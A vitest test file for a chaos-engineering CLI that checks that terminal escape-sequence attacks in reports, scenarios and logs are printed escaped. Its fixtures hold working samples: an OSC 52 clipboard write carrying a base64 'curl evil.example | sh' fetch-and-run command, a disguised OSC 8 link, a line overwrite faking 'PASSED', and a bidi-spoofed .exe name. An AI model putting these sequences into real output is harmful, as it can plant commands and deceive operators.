import { spawnSync } from 'node:child_process';
import { mkdtemp, readFile, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import type { JournalEvent } from '../../src/core/journal/events.js';
import { escapeData } from '../../src/core/github-commands.js';
import { escapeText } from '../../src/core/schedule/ics.js';
import { ROOT, runCli } from '../helpers/cli.js';
import { writeRun } from '../helpers/fixture-runs.js';
import { journals } from '../fixtures/journals/index.js';

/** Terminal attacks from the review (issue 16 item 6): clipboard write, disguised link, line overwrite, C1 CSI, bidi override. */
const OSC52 = '\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07';
const OSC8 = '\x1b]8;;https://evil.example/\x1b\\runbook\x1b]8;;\x1b\\';
const OVERWRITE = 'paged the owner\rPASSED, nothing to see';
const C1 = '\u009b2J';
const BIDI = 'checkout\u202egnp.exe';
/** Every character a terminal (or a viewer of a text file) could take as a command; newline, tab and CRLF are layout. */
// eslint-disable-next-line no-control-regex
const RAW_CONTROL = /[\u0000-\u0008\u000B\u000C\u000E-\u001F\u007F-\u009F\u202A-\u202E\u2066-\u2069]|\r(?!\n)/;

function deepReplace<T>(value: T, from: string, to: string): T {
  return JSON.parse(JSON.stringify(value).split(JSON.stringify(from).slice(1, -1)).join(JSON.stringify(to).slice(1, -1))) as T;
}

/** A real-looking journal whose alarm names (as AWS returned them), FIS reasons, notes and scenario text carry the attacks. */
async function hostileRun(): Promise<{ reportsDir: string; runDir: string }> {
  let events: JournalEvent[] = journals['multi-az-pass']!();
  events = deepReplace(events, 'checkout-5xx-high', `checkout-5xx-high${OSC52}`);
  events = deepReplace(events, 'Ravi paged by', `${OVERWRITE} ${OSC8}`);
  events = deepReplace(events, 'Power loss in us-east-1b', `Power loss ${C1} ${BIDI}`);
  events = deepReplace(events, 'Threshold Crossed', `Threshold ${OSC52} Crossed`);
  const reportsDir = await mkdtemp(join(tmpdir(), 'gameday-controls-'));
  return { reportsDir, runDir: await writeRun(reportsDir, events) };
}

function expectClean(where: string, text: string): void {
  const found = RAW_CONTROL.exec(text);
  expect(found ? `${where}: raw U+${found[0].charCodeAt(0).toString(16).padStart(4, '0')} near ${JSON.stringify(text.slice(Math.max(0, found.index - 40), found.index + 20))}` : '').toBe('');
}

describe('control characters from scenarios, journals and AWS never reach a terminal raw', () => {
  it('report show / show --markdown / show --json / render / list / diff: stdout, stderr and report.md, junit.xml are clean; the text is still there, escaped', async () => {
    const { reportsDir, runDir } = await hostileRun();
    const outputs = await Promise.all([
      runCli(['report', 'show', runDir]),
      runCli(['report', 'show', runDir, '--markdown']),
      runCli(['report', 'show', runDir, '--json']),
      runCli(['report', 'render', runDir]),
      runCli(['report', 'list', '--reports-dir', reportsDir]),
      runCli(['report', 'diff', runDir, runDir]),
    ]);
    for (const [i, r] of outputs.entries()) {
      expect(r.code, `${i}: ${r.stderr}`).not.toBe(2);
      expectClean(`command ${i} stdout`, r.stdout);
      expectClean(`command ${i} stderr`, r.stderr);
    }
    expect(outputs[0]!.stdout).toContain('checkout-5xx-high\\x1b]52;c;');
    expect(outputs[0]!.stdout).toContain('paged the owner\\x0dPASSED');
    // --json is the same data: the escapes are JSON's, and parse back to the original strings.
    expect(JSON.stringify(JSON.parse(outputs[2]!.stdout))).toContain(JSON.stringify(OSC52).slice(1, -1));
    for (const file of ['report.md', 'junit.xml']) expectClean(file, await readFile(join(runDir, file), 'utf8'));
  });

  it('validate and plan (text, markdown, github, json) of a scenario carrying the attacks print none of them raw', async () => {
    const dir = await mkdtemp(join(tmpdir(), 'gameday-controls-'));
    const source = await readFile(join(ROOT, 'scenarios/orders-ecs-task-kill.yaml'), 'utf8');
    const yamlString = (text: string) => JSON.stringify(text);
    const hostile = source
      .replace(/^(\s*description:).*$/m, `$1 ${yamlString(`Kill a task ${OSC52} ${OSC8} ${C1} ${BIDI} ${OVERWRITE}`)}`)
      .replace(/^(\s*owner:).*$/m, `$1 ${yamlString(`team${OSC52}`)}`);
    expect(hostile).not.toBe(source);
    await writeFile(join(dir, 'orders.yaml'), hostile);
    // An invalid value quoted back in the error message.
    await writeFile(join(dir, 'bad.yaml'), source.replace(/^(\s*name:).*$/m, `$1 ${yamlString(`orders${OSC52}`)}`));
    const outputs = await Promise.all([
      runCli(['validate', dir]),
      runCli(['validate', dir, '--format', 'github']),
      runCli(['validate', dir, '--json']),
      runCli(['plan', join(dir, 'orders.yaml')]),
      runCli(['plan', join(dir, 'orders.yaml'), '--format', 'markdown']),
      runCli(['plan', join(dir, 'orders.yaml'), '--format', 'github']),
      runCli(['plan', join(dir, 'orders.yaml'), '--format', 'json']),
      runCli(['plan', join(dir, 'bad.yaml')]),
    ]);
    for (const [i, r] of outputs.entries()) {
      expectClean(`command ${i} stdout`, r.stdout);
      expectClean(`command ${i} stderr`, r.stderr);
    }
    expect(outputs[3]!.stdout).toContain('Kill a task \\x1b]52;c;');
    expect(outputs[7]!.code).toBe(2);
  });

  it('log lines, JSON and pretty (on a terminal), carry no raw control characters', () => {
    const script = `const { getLogger } = await import(${JSON.stringify(join(ROOT, 'dist/cli/logger.js'))}); const log = await getLogger(); log.warn({ alarm: ${JSON.stringify(`a${OSC52}`)}, reason: ${JSON.stringify(C1)} }, ${JSON.stringify(`note ${OVERWRITE} ${OSC8}`)});`;
    const json = spawnSync(process.execPath, ['--input-type=module', '-e', script], { encoding: 'utf8', env: { ...process.env, NO_COLOR: '1' } });
    expect(json.stderr).toContain('"alarm":"a\\\\x1b]52;c;');
    expectClean('JSON log', json.stderr);
    const quote = (word: string): string => `'${word.replace(/'/g, `'\\''`)}'`;
    const tty = spawnSync('script', ['-qec', `${quote(process.execPath)} --input-type=module -e ${quote(script)}`, '/dev/null'], { encoding: 'utf8', env: { ...process.env, NO_COLOR: '1' } });
    expect(tty.stdout).toContain('note paged the owner\\x0dPASSED');
    // The pty turns every \n into \r\n; that CRLF is the terminal's, not the log's.
    expectClean('pretty log', tty.stdout);
  });

  it('ICS text and GitHub workflow command values are escaped per format and hold no control characters', () => {
    for (const attack of [OSC52, OSC8, OVERWRITE, C1, BIDI]) {
      expectClean('ics', escapeText(attack));
      expectClean('workflow command', escapeData(attack));
    }
    expect(escapeText(`a,b;c\n${OSC52}`)).toBe('a\\,b\\;c\\n\\\\x1b]52\\;c\\;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\\\x07');
  });
});
